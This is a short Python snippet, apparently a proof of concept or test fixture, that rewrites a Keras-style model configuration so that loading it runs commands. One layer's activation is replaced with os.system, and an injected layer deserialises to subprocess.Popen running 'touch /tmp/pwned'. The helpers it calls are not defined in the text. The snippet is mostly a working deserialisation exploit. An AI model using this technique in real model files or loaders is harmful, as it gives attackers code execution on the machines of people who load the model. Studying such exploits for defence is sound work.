def change(config):
    shell = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    run = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", "/tmp/pwned"]}}
    config["config"]["layers"][1]["config"]["activation"] = shell
    config["config"]["layers"].insert(1, run | {"registered_name": None})


def build_model():
    return handing_in(reconfigured(change))
